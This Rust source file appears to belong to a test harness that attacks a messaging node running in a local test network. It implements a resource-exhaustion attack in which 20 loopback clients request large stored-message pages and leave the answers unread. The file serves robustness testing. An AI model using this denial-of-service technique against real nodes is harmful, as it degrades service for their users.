//! Attack c3: answers with history that are requested but not read.

use std::net::Ipv4Addr;
use std::time::Duration;

use futures::FutureExt as _;
use tokio::time::{sleep, timeout};

use super::{Attack, Price, nothing, with_services};
use crate::node::Target;
use crate::service_client::ServiceClient;
use crate::test_network::{prefix, pubsub_topic};
use crate::{HostileError, Tasks, TestNetwork, asks, rpc};

/// Number of clients, each with its own address.
const ATTACKERS: u8 = 20;
/// Streams that each client has open at a time.
const STREAMS: usize = 6;
/// Number of messages in the requested page, and their payload, bytes: together longer than the longest
/// answer.
const MESSAGES: u32 = 32;
const PAYLOAD_BYTES: usize = 140_000;
/// Time for which answers are not read.
const HELD: Duration = Duration::from_secs(5);
/// Rounds of each client, enough for ten minutes.
const ROUNDS_MAX: u32 = 120;
/// Duration of the attack before messages are counted.
const RISING: Duration = Duration::from_secs(3);

/// Attack c3: unread answers.
pub const ATTACK: Attack = Attack {
    name: "c3-unread-answers",
    about: "120 store queries at a time whose answers of 4 MiB are not read, from 20 addresses",
    price: Price::Addresses(ATTACKERS as u32),
    options: with_services,
    start: |stage| start(stage).boxed(),
    then: nothing,
};

async fn start(stage: &mut TestNetwork) -> Result<Tasks, HostileError> {
    let target = stage.victim.target();
    let topic = format!("{}/long/proto", prefix(0));
    let writer = ServiceClient::connect(Ipv4Addr::new(127, 0, 23, 100), target, None).await?;
    for n in 0..MESSAGES {
        let mut payload = vec![0; PAYLOAD_BYTES];
        payload[..4].copy_from_slice(&n.to_be_bytes());
        let push = asks::push(&pubsub_topic(0), &topic, payload);
        writer.raw.ask(asks::LIGHTPUSH, &push).await?;
    }
    let query = rpc::framed(&asks::newest(Some(&topic), 100));
    let mut tasks = Tasks::default();
    for n in 0..ATTACKERS {
        let from = Ipv4Addr::new(127, 0, 23, n + 1);
        tasks.spawn(ask(from, target, query.clone()));
    }
    sleep(RISING).await;
    Ok(tasks)
}

async fn ask(from: Ipv4Addr, target: Target, query: Vec<u8>) {
    let mut client: Option<ServiceClient> = None;
    for _ in 0..ROUNDS_MAX {
        if client.is_none() {
            client = ServiceClient::connect(from, target, None).await.ok();
        }
        let Some(connected) = &client else {
            sleep(Duration::from_secs(1)).await;
            continue;
        };
        let asking = (0..STREAMS).map(|_| timeout(HELD, connected.raw.send(asks::STORE, &query)));
        let streams = futures::future::join_all(asking).await;
        let is_served = streams.iter().any(|sent| matches!(sent, Ok(Ok(_))));
        sleep(HELD).await;
        drop(streams);
        if !is_served {
            client = None;
        }
    }
}
